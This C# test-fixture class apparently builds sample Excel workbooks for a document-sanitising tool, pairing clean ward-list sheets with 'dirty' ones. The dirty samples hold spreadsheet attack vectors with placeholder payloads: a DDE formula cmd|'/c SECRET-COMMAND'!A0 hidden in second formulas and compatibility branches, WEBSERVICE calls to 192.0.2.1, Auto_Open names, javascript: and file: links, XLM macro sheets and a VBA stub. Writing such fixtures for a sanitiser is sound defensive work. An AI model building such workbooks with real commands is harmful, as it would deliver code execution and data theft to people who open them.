using static Airlock.Tests.Samples.Making.SamplePackage;

namespace Airlock.Tests.Samples.Making;

/// <summary>Workbooks, from a ward list to one whose cells call out.</summary>
internal static class SheetSamples
{
    private const string Main = "xl/workbook.xml";
    private const string Type = "application/vnd.openxmlformats-officedocument.spreadsheetml.";
    private const string Workbook = Type + "sheet.main+xml";
    private const string MacroWorkbook = "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
    private const string Template = Type + "template.main+xml";
    private const string MacroTemplate = "application/vnd.ms-excel.template.macroEnabled.main+xml";
    private const string Names = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";

    public static IEnumerable<(string Path, byte[] Bytes)> All()
    {
        yield return ("xlsx/clean.xlsx", Clean().Bytes());
        yield return ("xlsx/dirty.xlsx", Dirty().Bytes());
        yield return ("xlsx/broken.xlsx", Clean().Bytes()[..^60]);
        yield return ("xlsx/dde-formula.xlsx", WithCells("<c r=\"A1\" t=\"str\"><f>cmd|'/c SECRET-COMMAND'!A0</f><v>残る値</v></c>").Bytes());
        yield return ("xlsx/second-formula.xlsx", WithCells("<c r=\"A1\"><f>SUM(1)</f><f>cmd|'/c SECRET-COMMAND'!A0</f><v>1</v></c>").Bytes());
        yield return ("xlsx/formula-in-branch.xlsx", WithCells("<c r=\"A1\"><mc:AlternateContent xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\">"
            + "<mc:Choice xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" Requires=\"x14\"><f>cmd|'/c SECRET-COMMAND'!A0</f></mc:Choice></mc:AlternateContent><v>1</v></c>").Bytes());
        yield return ("xlsx/second-names.xlsx", new SamplePackage(Main, Workbook, WorkbookXml("<definedNames><definedName name=\"内部\">Sheet1!$A$1</definedName></definedNames>"
            + "<definedNames><definedName name=\"_xlnm.Auto_Open\">Sheet1!$A$1</definedName></definedNames>"))
            .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet("", "")).Link(Main, "rId1", Rel + "worksheet", "xl/worksheets/sheet1.xml").Bytes());
        yield return ("xlsx/shared-formula.xlsx", WithCells("<c r=\"A1\"><f t=\"shared\" ref=\"A1:B1\" si=\"0\">WEBSERVICE(\"http://192.0.2.1/SECRET\")</f><v>1</v></c><c r=\"B1\"><f t=\"shared\" si=\"0\"/><v>2</v></c>").Bytes());
        yield return ("xlsx/add-in.xlam", new SamplePackage(Main, "application/vnd.ms-excel.addin.macroEnabled.main+xml", WorkbookXml()).Bytes());
        yield return ("xlsm/dirty.xlsm", MacroSheet(MacroWorkbook).Bytes());
        yield return ("xltx/template.xltx", Clean(Template).Bytes());
        yield return ("xltm/dirty.xltm", MacroSheet(MacroTemplate).Bytes());
    }

    public static SamplePackage Clean(string mainType = Workbook) => new SamplePackage(Main, mainType, WorkbookXml("<definedNames><definedName name=\"病棟\">Sheet1!$A$1:$A$2</definedName></definedNames>"))
        .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet("<c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\"><f>SUM(C1:D1)+IF(1,2,3)</f><v>3</v></c><c r=\"C1\"><v>1</v></c>",
            "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/><hyperlink ref=\"B1\" location=\"Sheet1!A1\"/></hyperlinks>"))
        .Part("xl/sharedStrings.xml", Type + "sharedStrings+xml", $"<sst {Names} count=\"1\" uniqueCount=\"1\"><si><t>髙橋</t><rPh sb=\"0\" eb=\"2\"><t>タカハシ</t></rPh><phoneticPr fontId=\"0\"/></si></sst>")
        .Part("xl/styles.xml", Type + "styles+xml", Styles)
        .Link(Main, "rId1", Rel + "worksheet", "xl/worksheets/sheet1.xml")
        .Link(Main, "rId2", Rel + "sharedStrings", "xl/sharedStrings.xml")
        .Link(Main, "rId3", Rel + "styles", "xl/styles.xml")
        .External("xl/worksheets/sheet1.xml", "rId1", Rel + "hyperlink", "mailto:ward@hospital.invalid");

    private static SamplePackage Dirty() => new SamplePackage(Main, Workbook, WorkbookXml("<externalReferences><externalReference r:id=\"rId9\"/></externalReferences>"
            + "<definedNames><definedName name=\"_xlnm.Auto_Open\">Sheet1!$A$1</definedName><definedName name=\"外部\">[1]Other!$A$1</definedName><definedName name=\"内部\">Sheet1!$A$1</definedName></definedNames>"))
        .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet(
            "<c r=\"A1\" t=\"str\"><f>WEBSERVICE(\"http://192.0.2.1/SECRET-WEB\")</f><v>値一</v></c><c r=\"B1\"><f>[1]Other!A1</f><v>42</v></c><c r=\"C1\"><f>外部+1</f><v>43</v></c>"
            + "<c r=\"D1\" t=\"str\"><f>HYPERLINK(\"file:///SECRET-FILE\",\"x\")</f><v>値四</v></c><c r=\"E1\"><f>SUM(B1:C1)</f><v>85</v></c>",
            "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/></hyperlinks><pageSetup r:id=\"rId2\"/><drawing r:id=\"rId3\"/>"))
        .Part("xl/drawings/drawing1.xml", "application/vnd.openxmlformats-officedocument.drawing+xml",
            "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><xdr:absoluteAnchor>"
            + "<xdr:pos x=\"0\" y=\"0\"/><xdr:ext cx=\"9\" cy=\"9\"/><xdr:sp macro=\"[0]!SECRET-MACRO\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"b\"/><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp>"
            + "<xdr:clientData/></xdr:absoluteAnchor></xdr:wsDr>")
        .Part("xl/externalLinks/externalLink1.xml", Type + "externalLink+xml", $"<externalLink {Names}><ddeLink ddeService=\"SECRET-DDE\" ddeTopic=\"x\"/></externalLink>")
        .Part("xl/connections.xml", Type + "connections+xml", $"<connections {Names}><connection id=\"1\" name=\"SECRET-CONNECTION\"/></connections>")
        .Part("xl/printerSettings/printerSettings1.bin", Type + "printerSettings", "SECRET-PRINTER")
        .Part("xl/styles.xml", Type + "styles+xml", Styles)
        .Link(Main, "rId1", Rel + "worksheet", "xl/worksheets/sheet1.xml")
        .Link(Main, "rId3", Rel + "styles", "xl/styles.xml")
        .Link(Main, "rId4", Rel + "connections", "xl/connections.xml")
        .Link(Main, "rId9", Rel + "externalLink", "xl/externalLinks/externalLink1.xml")
        .External("xl/worksheets/sheet1.xml", "rId1", Rel + "hyperlink", "javascript:SECRET-SCRIPT")
        .Link("xl/worksheets/sheet1.xml", "rId2", Rel + "printerSettings", "xl/printerSettings/printerSettings1.bin")
        .Link("xl/worksheets/sheet1.xml", "rId3", Rel + "drawing", "xl/drawings/drawing1.xml");

    /// <summary>A macro sheet between two sheets: what counts sheets must be counted anew.</summary>
    public static SamplePackage Macros() => MacroSheet(MacroWorkbook);

    private static SamplePackage MacroSheet(string mainType) => new SamplePackage(Main, mainType, $"<workbook {Names}><bookViews><workbookView activeTab=\"2\"/></bookViews><sheets>"
            + "<sheet name=\"一\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"SECRETXLM\" sheetId=\"2\" r:id=\"rId2\"/><sheet name=\"二\" sheetId=\"3\" r:id=\"rId3\"/></sheets><definedNames>"
            + "<definedName name=\"範囲\" localSheetId=\"2\">二!$A$1</definedName><definedName name=\"run\">SECRETXLM!$A$1</definedName></definedNames></workbook>")
        .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet("<c r=\"A1\"><f>SECRETXLM!A1</f><v>7</v></c>", ""))
        .Part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", "<x>SECRET-EXEC</x>")
        .Part("xl/worksheets/sheet2.xml", Type + "worksheet+xml", Sheet("<c r=\"A1\"><v>8</v></c>", ""))
        .Part("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject", "SECRET-VBA")
        .Link(Main, "rId1", Rel + "worksheet", "xl/worksheets/sheet1.xml")
        .Link(Main, "rId2", OfficeRel + "xlMacrosheet", "xl/macrosheets/sheet1.xml")
        .Link(Main, "rId3", Rel + "worksheet", "xl/worksheets/sheet2.xml")
        .Link(Main, "rId4", OfficeRel + "vbaProject", "xl/vbaProject.bin");

    private static SamplePackage WithCells(string cells) => new SamplePackage(Main, Workbook, WorkbookXml())
        .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet(cells, "")).Link(Main, "rId1", Rel + "worksheet", "xl/worksheets/sheet1.xml");

    private static string WorkbookXml(string rest = "") => $"<workbook {Names}><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets>{rest}</workbook>";

    private static string Sheet(string cells, string rest) => $"<worksheet {Names}><sheetData><row r=\"1\">{cells}</row></sheetData>{rest}</worksheet>";

    private const string Styles = "<styleSheet " + Names + "><fonts count=\"1\"><font><name val=\"ＭＳ Ｐゴシック\"/></font></fonts><fills count=\"1\"><fill/></fills><borders count=\"1\"><border/></borders>"
        + "<cellStyleXfs count=\"1\"><xf/></cellStyleXfs><cellXfs count=\"1\"><xf/></cellXfs></styleSheet>";
}
